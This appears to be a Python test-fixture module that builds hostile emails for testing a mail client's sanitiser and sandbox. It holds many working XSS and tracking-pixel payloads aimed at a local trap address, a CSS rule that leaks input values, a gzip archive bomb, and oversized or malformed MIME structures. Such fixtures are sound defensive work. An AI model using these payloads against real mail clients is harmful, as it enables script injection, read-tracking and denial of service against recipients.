"""Mails that try to run something, to tell somebody that they are read, or to be too much.

`{trap}` is the address of a socket. Each attack reaches it in a browser that nobody holds back, which is what makes its
silence worth something.
"""

import base64
import zlib
from collections.abc import Callable, Mapping

SEEN = "Seen by its reader"

#: Without a blank, so that it needs no quotes.
_RUN = "(new(Image)).src='{trap}/ran'"
_GIF = base64.b64encode(
    b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,"
).decode()

#: What the policy and the sandbox hold back: without them the same page reaches the trap.
BY_POLICY: Mapping[str, str] = {
    "script": f"<script>{_RUN}</script>",
    "script-from-elsewhere": "<script src={trap}/x.js></script>",
    "module": "<script type=module>import '{trap}/x.js'</script>",
    "fetch": "<script>fetch('{trap}/x')</script>",
    "onerror": f'<img src="x:" onerror="{_RUN}">',
    "onload-of-body": f'<body onload="{_RUN}">',
    "onload-of-svg": f'<svg onload="{_RUN}"></svg>',
    "ontoggle": f'<details open ontoggle="{_RUN}"><summary>x</summary></details>',
    "onfocus": f'<input autofocus onfocus="{_RUN}">',
    "onanimation": f'<style>@keyframes k{{{{}}}}p{{{{animation:k 1s}}}}</style><p onanimationstart="{_RUN}">x</p>',
    "svg-script": f"<svg><script>{_RUN}</script></svg>",
    "svg-use": '<svg><animate onbegin="' + _RUN + '" attributeName=x dur=1s></animate></svg>',
    "svg-image": "<svg><image href={trap}/x.png width=9 height=9></image></svg>",
    "comment-that-is-none": f'<!--><img src="x:" onerror="{_RUN}">-->',
    "mutation": f'<noscript><p title="</noscript><img src=x: onerror={_RUN}>"></noscript>',
    "math": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;'><img src=x: onerror={_RUN}></math>",
    "image": "<img src={trap}/x.png>",
    "srcset": '<img srcset="{trap}/x.png 1x">',
    "picture": "<picture><source srcset={trap}/x.png><img src=x:></picture>",
    "background": "<table background={trap}/x.png><tr><td>x</table>",
    "input-image": "<input type=image src={trap}/x.png>",
    "poster": "<video poster={trap}/x.png></video>",
    "video": "<video src={trap}/x.mp4 autoplay></video>",
    "audio": "<audio src={trap}/x.mp3 autoplay></audio>",
    "style-image": "<p style=\"background:url('{trap}/x.png')\">x</p>",
    "style-import": "<style>@import '{trap}/x.css';</style>",
    "style-reads-a-value": "<input value=secret><style>input[value^=s]{{background:url({trap}/begins-with-s)}}</style>",
    "style-font": "<style>@font-face{{font-family:f;src:url({trap}/f.woff)}}p{{font-family:f}}</style><p>x</p>",
    "style-cursor-list-content": "<style>p::before{{content:url({trap}/x.png)}}</style><p>x</p>",
    "form-by-script": "<form action={trap}/x id=f></form><script>f.submit()</script>",
}
#: What the page itself is changed for, since the policy says nothing of it, or is asked too late: as it was sent, it
#: reaches the trap.
BY_CHANGE: Mapping[str, str] = {
    "iframe": "<iframe src={trap}/x.html></iframe>",
    "srcdoc": f'<iframe srcdoc="<script>{_RUN}</script>"></iframe>',
    "object": "<object data={trap}/x.svg></object>",
    "embed": "<embed src={trap}/x.svg>",
    "frame-of-data": f'<iframe src="data:text/html,<script>{_RUN}</script>"></iframe>',
    "preconnect": "<link rel=preconnect href={trap}>",
    "preconnect-in-a-comment": "<!--><link rel=preconnect href={trap}>-->",
    "preconnect-without-blanks": '<p><LINK/REL="preconnect"/HREF="{trap}">',
    "stylesheet": "<link rel=stylesheet href={trap}/x.css>",
    "preload": "<link rel=preload as=image href={trap}/x.png>",
    "prefetch": "<link rel=prefetch href={trap}/x.html>",
    "refresh": '<meta http-equiv=refresh content="0;url={trap}/x">',
    "base": "<base href={trap}/><img src=x.png>",
}
#: Where a reader has to click, on `#it`.
BY_CLICK: Mapping[str, str] = {
    "form": "<form action={trap}/x><button id=it>Win</button></form>",
    "form-of-a-button": "<form id=f></form><button id=it form=f formaction={trap}/x formmethod=post>Win</button>",
    "javascript": f'<a id=it href="javascript:void({_RUN})">Win</a>',
    "javascript-here": f'<a id=it target=_self href="javascript:void({_RUN})">Win</a>',
    "ping": '<a id=it href="#x" ping={trap}/x>Win</a>',
    "onclick": f'<b id=it onclick="{_RUN}">Win</b>',
}


def page(attack: str) -> str:
    return f"<!DOCTYPE html><html><head><title>x</title></head><body><p>{SEEN}</p>{attack}</body></html>"


def as_mail(html: str, name: str) -> bytes:
    body = base64.encodebytes(html.encode()).replace(b"\n", b"\r\n")
    return _head(name, "text/html; charset=utf-8", "base64") + body


# --- mails that are much, broken, or nested --------------------------------------------------------------------------


def _head(name: str, media: str, encoding: str = "7bit") -> bytes:
    lines = (
        f"From: eve@dest.test\r\nTo: ann@dest.test\r\nSubject: {name}\r\nMIME-Version: 1.0\r\nContent-Type: {media}\r\n"
    )
    return f"{lines}Content-Transfer-Encoding: {encoding}\r\n\r\n".encode()


_HTML = f"--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p>{SEEN}</p>\r\n".encode()


def ten_thousand_parts(name: str) -> bytes:
    part = b"--b\r\nContent-Type: text/plain; name=a.txt\r\nContent-Disposition: attachment\r\n\r\nx\r\n"
    return _head(name, "multipart/mixed; boundary=b") + _HTML + part * 10_000 + b"--b--\r\n"


def nested(name: str) -> bytes:
    """A hundred multiparts inside each other, and what is to be read in the innermost."""
    head = _head(name, "multipart/mixed; boundary=b0")
    opens = b"".join(f"--b{n}\r\nContent-Type: multipart/mixed; boundary=b{n + 1}\r\n\r\n".encode() for n in range(100))
    inner = f"--b100\r\nContent-Type: text/plain\r\n\r\n{SEEN}\r\n--b100--\r\n".encode()
    return head + opens + inner + b"".join(f"--b{n}--\r\n".encode() for n in reversed(range(100)))


def messages_in_messages(name: str) -> bytes:
    forwarded = b"Content-Type: text/plain\r\n\r\nthe end\r\n"
    for _ in range(60):
        forwarded = b"Content-Type: message/rfc822\r\n\r\nSubject: inside\r\n" + forwarded
    return _head(name, "multipart/mixed; boundary=b") + _HTML + b"--b\r\n" + forwarded + b"--b--\r\n"


def archive_bomb(name: str) -> bytes:
    """A gigabyte in a megabyte, as a file and as the encoding of the text itself."""
    squeezed = zlib.compressobj(9, zlib.DEFLATED, 31)
    octets = b"".join(squeezed.compress(bytes(1 << 20)) for _ in range(256)) + squeezed.flush()
    head = b"--b\r\nContent-Type: application/gzip; name=a.gz\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    inside = b"--b\r\nContent-Type: text/html\r\nContent-Encoding: gzip\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    body = base64.encodebytes(octets).replace(b"\n", b"\r\n")
    return _head(name, "multipart/mixed; boundary=b") + _HTML + head + body + inside + body + b"--b--\r\n"


def broken(name: str) -> bytes:
    """No encoding is what it says, no boundary closes, and octets that are none of any charset."""
    return (
        _head(name, "multipart/mixed; boundary=b")
        + _HTML
        + b"--b\r\nContent-Type: text/html; charset=no-such\r\nContent-Transfer-Encoding: base64\r\n\r\n=?!\x80\xff*\r\nAA\r\n"
        + b"--b\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n=ZZ=\xc3=\r\n"
        + b"--b\r\nContent-Type: text/html; charset=utf-7\r\n\r\n+ADw-script+AD4-alert(1)+ADw-/script+AD4-\r\n"
        + b"--b\r\nContent-Type: text/plain; charset=iso-2022-jp\r\n\r\n\x1b$B\xff\xff\x1b(J\\x1b\r\n"
        + b"--b\r\nContent-Type: ;;;=\r\nContent-Disposition: \x7f\r\n\r\n\x01\x02\x03\r\n"
    )


def large_html(name: str) -> bytes:
    """25 MB, most of it comments, as converters leave them: to lay all of it out would take a browser long."""
    row = b"<p>a line with <a href=http://127.0.0.1:9/>a link</a></p><!--" + b"and more after it " * 40 + b"-->\r\n"
    return _head(name, "text/html; charset=utf-8") + f"<p>{SEEN}</p>\r\n".encode() + row * (25_000_000 // len(row))


def large_text(name: str) -> bytes:
    return _head(name, "text/plain") + f"{SEEN}\r\n".encode() + b"so it goes on and on\r\n" * 1_100_000


def large_image(name: str) -> bytes:
    """Of 18 MB, and named a thousand times."""
    images = "<img src=cid:a>\r\n" * 1000
    html = f"--b\r\nContent-Type: text/html\r\n\r\n<p>{SEEN}</p>{images}\r\n".encode()
    head = b"--b\r\nContent-Type: image/gif\r\nContent-ID: <a>\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    body = (_GIF[:72].encode() + b"\r\n") * 300_000
    return _head(name, "multipart/related; boundary=b") + html + head + body + b"--b--\r\n"


def svg_of_its_own(name: str) -> bytes:
    """An image of the mail itself that has a script and names images elsewhere."""
    svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="{0}"><script>{0}</script><image href="{1}/x.png"/></svg>'
    html = f"--b\r\nContent-Type: text/html\r\n\r\n<p>{SEEN}</p><img src=cid:a><object data=cid:a></object>\r\n"
    part = f"--b\r\nContent-Type: image/svg+xml\r\nContent-ID: <a>\r\n\r\n{svg.format(_RUN, '{trap}')}\r\n--b--\r\n"
    return _head(name, "multipart/related; boundary=b") + (html + part).encode()


STRUCTURES: Mapping[str, Callable[[str], bytes]] = {
    each.__name__: each
    for each in (
        ten_thousand_parts,
        nested,
        messages_in_messages,
        archive_bomb,
        broken,
        svg_of_its_own,
        large_html,
        large_text,
        large_image,
    )
}
